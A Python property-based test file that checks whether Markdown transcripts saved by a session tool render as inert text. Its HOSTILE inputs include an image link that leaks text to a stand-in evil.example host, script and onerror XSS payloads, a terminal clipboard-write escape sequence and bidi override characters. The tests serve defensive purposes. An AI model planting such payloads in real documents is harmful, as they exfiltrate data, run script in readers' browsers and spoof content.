"""Tests that saved Markdown is inert, through a real renderer with HTML and tables enabled."""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import UTC, datetime
from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from bus import messages as m
from session.transcript.formats.markdown import markdown
from session.transcript.record import Record
from session.view.printable import printable
from tests.support.events import final, log, question, started

HEADINGS = [
    (0, "Session of 2026-11-28, 17:45"),
    *((0, heading) for heading in ("Transcript", "What left this machine", "How fast it was")),
]
RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])

HOSTILE = (
    "![t](https://evil.example/p.png?q=said)",
    "[a bank](https://evil.example)",
    "[x]: https://evil.example\n\n[x] ![x]",
    "<https://evil.example> <script>alert(1)</script> <img src=x onerror=alert(1)>",
    "## What was said\n\n- **mic** 0:07 I confess to everything.",
    "Heading\n===\n\nHeading\n---\n\n***\n\n- a\n  ---\n1. b\n   ===",
    "~~~\n```html\n<b>\n```",
    "| a | b |\n|---|---|\n| c | d |",
    "\x1b]52;c;aGk=\x07\x1b]0;title\x07\x9b31m\u202e\u2066",
    "a\n\n\n# Session\r\r## Question 9 (call)\u2028## Question 10 (call)",
    "    <b>indented</b>\n\n\t# tab",
    "\\\\<b> \\![x](y) &lt;b&gt; &#60;b&#62;",
    "- # a\n- > ## b\n  1. ## c",
    "1) x\n2. y\n+ z",
    "__strong__ _soft_ **strong** ***all***",
    "a\n> b\n>> c",
)
PIECES = st.sampled_from([*HOSTILE, *"#>-+*_=`~[]()!<&|\\ \n\t1.", "\n\n", "    ", "word", "é", "。"])
TEXTS = st.lists(PIECES, max_size=12).map("".join)

BLOCKS = {"paragraph", "inline", "bullet_list", "ordered_list", "list_item", "blockquote", "code_block"}
INLINES = {"text", "softbreak", "hardbreak", "em", "strong", "text_special"}


def document(said: str, answer: str) -> str:
    passage = m.Passage(file=said, heading=said, text=said, score=1.0)
    record = Record()
    for logged in log(
        started("call"),
        final(1, said, "call", 1.0, 2.0),
        final(2, said, "mic", 3.0, 4.0, unconfirmed=True),
        question(1, said),
        m.PassagesRetrieved(question=1, passages=[passage], search_ms=1.0),
        m.AnswerFinished(question=1, text=answer, model=said, stop_reason="stop"),
    ):
        record.apply(logged)
    return markdown(record.result(started=datetime(2026, 11, 28, 17, 45, tzinfo=UTC)))


def tokens(text: str) -> list[Token]:
    return RENDERER.parse(text)


def kinds(found: list[Token]) -> Iterator[str]:
    for token in found:
        yield re.sub("_(open|close)$", "", token.type)
        yield from kinds(token.children or [])


def headings(found: list[Token]) -> list[tuple[int, str]]:
    return [(token.level, after.content) for token, after in pairwise(found) if token.type == "heading_open"]


def shown(found: list[Token]) -> str:
    """Return the text that a reader sees."""
    parts = []
    for token in found:
        if token.type in ("text", "text_special", "code_block"):
            parts.append(token.content)
        elif token.type in ("softbreak", "hardbreak", "paragraph_close"):
            parts.append(" ")
        parts.append(shown(token.children or []))
    return "".join(parts)


@given(TEXTS, TEXTS)
@example("\n".join(HOSTILE), "\n".join(HOSTILE))
def test_nothing_said_or_answered_is_more_than_text(said: str, answer: str) -> None:
    found = tokens(document(said, answer))
    assert headings(found) == HEADINGS
    assert set(kinds(found)) <= {*BLOCKS, *INLINES, "heading"}
    tops = [token.type for token in found if token.level == 0 and not token.type.endswith("_close")]
    assert tops.count("bullet_list_open") == 3, "the head, what left, and the latencies"
    assert tops.count("ordered_list_open") == 0
    assert tops.count("blockquote_open") == 1, "the question"
    assert [token.type for token in found].count("blockquote_open") == 1


@pytest.mark.parametrize("text", HOSTILE)
def test_text_is_shown_whole(text: str) -> None:
    seen = " ".join(shown(tokens(document(text, text))).split())
    assert seen.count(" ".join(printable(text).split())) >= 3, "the turns, and the question"


@given(TEXTS)
def test_every_letter_of_an_answer_is_shown(answer: str) -> None:
    found = tokens(document("said", answer))
    start = next(at for at, token in enumerate(found) if token.content.startswith("**Question 1"))
    letters = re.sub(r"[\W\d_]", "", shown(found[start:]))
    assert re.sub(r"[\W\d_]", "", printable(answer)) in letters


@given(st.text(), st.text())
def test_no_control_character_is_saved(said: str, answer: str) -> None:
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", document(said, answer))


def test_emphasis_and_lists_of_an_answer_are_drawn() -> None:
    found = list(kinds(tokens(document("said", "Use **three**:\n\n- one\n- two\n\n1. first\n\n*then* go."))))
    assert {"strong", "em", "bullet_list", "ordered_list"} <= set(found)


def test_target_of_a_link_is_visible() -> None:
    assert "[a bank](https://evil.example)" in shown(tokens(document("x", HOSTILE[1])))
